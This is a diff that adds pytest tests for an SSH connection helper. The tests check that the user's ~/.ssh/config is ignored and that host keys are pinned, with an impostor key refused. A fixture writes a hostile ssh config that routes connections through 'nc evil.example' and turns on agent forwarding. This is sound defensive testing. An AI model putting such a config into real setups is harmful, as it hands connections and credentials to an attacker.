@@ -1,0 +1,100 @@
+"""Connections into environments: the stack key only, the user's ~/.ssh/config ignored, and the
+host key pinned in the stack's own known_hosts."""
+
+from __future__ import annotations
+
+import contextlib
+import io
+import socket
+import threading
+import time
+from pathlib import Path
+
+import paramiko
+import pytest
+from cryptography.hazmat.primitives import serialization
+from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
+
+from hostbench.reach.ssh import StackAccess, close, connection
+
+
+def _key() -> str:
+    return Ed25519PrivateKey.generate().private_bytes(
+        serialization.Encoding.PEM, serialization.PrivateFormat.OpenSSH,
+        serialization.NoEncryption()).decode()
+
+
+def test_the_users_ssh_config_never_reaches_an_environment(tmp_path: Path,
+                                                          monkeypatch: pytest.MonkeyPatch):
+    home = tmp_path / "home"
+    (home / ".ssh").mkdir(parents=True)
+    (home / ".ssh" / "config").write_text(
+        "Host *\n  ForwardAgent yes\n  ProxyCommand nc evil.example 22\n  User mallory\n"
+        "  Port 2200\n")
+    monkeypatch.setenv("HOME", str(home))
+    conn = connection("127.0.0.1", 2222, "root", StackAccess(_key(), tmp_path / "known_hosts"))
+    assert conn.forward_agent is False and conn.gateway is None
+    assert (conn.user, conn.port) == ("root", 2222)
+    assert conn.connect_kwargs["allow_agent"] is False
+    assert conn.connect_kwargs["look_for_keys"] is False
+
+
+class OneHandshakeServer:
+    """A real SSH server on 127.0.0.1 that shows ``host_key`` and refuses every login."""
+
+    def __init__(self, host_key: paramiko.PKey) -> None:
+        self.host_key = host_key
+        self.listener = socket.create_server(("127.0.0.1", 0))
+        self.port = self.listener.getsockname()[1]
+        self.thread = threading.Thread(target=self._serve, daemon=True)
+        self.thread.start()
+
+    def _serve(self) -> None:
+        with contextlib.suppress(Exception):
+            sock, _ = self.listener.accept()
+            transport = paramiko.Transport(sock)
+            transport.add_server_key(self.host_key)
+            transport.start_server(server=paramiko.ServerInterface())
+            deadline = time.monotonic() + 10
+            while transport.is_active() and time.monotonic() < deadline:  # until the client goes
+                time.sleep(0.02)
+            transport.close()
+
+    def close(self) -> None:
+        self.listener.close()
+        self.thread.join(timeout=10)
+
+
+def _open(port: int, access: StackAccess) -> type[Exception]:
+    conn = connection("127.0.0.1", port, "root", access, timeout=10)
+    try:
+        conn.open()
+    except Exception as exc:  # which one is the point of the test
+        return type(exc)
+    finally:
+        close(conn)
+    raise AssertionError("the server let us in")
+
+
+def test_the_first_host_key_is_pinned_and_another_one_later_is_refused(tmp_path: Path):
+    access = StackAccess(_key(), tmp_path / "state" / "known_hosts")
+    first = OneHandshakeServer(paramiko.Ed25519Key.from_private_key(io.StringIO(_key())))
+    try:  # the handshake succeeds (the key is new: pinned), the login is refused
+        assert issubclass(_open(first.port, access), paramiko.AuthenticationException)
+    finally:
+        first.close()
+    assert oct(access.known_hosts.stat().st_mode & 0o777) == "0o600"
+    pinned = paramiko.HostKeys(str(access.known_hosts))
+    assert pinned.lookup(f"[127.0.0.1]:{first.port}") is not None
+    again = OneHandshakeServer(first.host_key)
+    try:  # same key, same address: accepted again
+        assert issubclass(_open(again.port, access), paramiko.AuthenticationException)
+    finally:
+        again.close()
+    impostor = OneHandshakeServer(paramiko.Ed25519Key.from_private_key(io.StringIO(_key())))
+    try:
+        pinned.add(f"[127.0.0.1]:{impostor.port}", "ssh-ed25519", first.host_key)
+        pinned.save(str(access.known_hosts))
+        assert _open(impostor.port, access) is paramiko.BadHostKeyException
+    finally:
+        impostor.close()
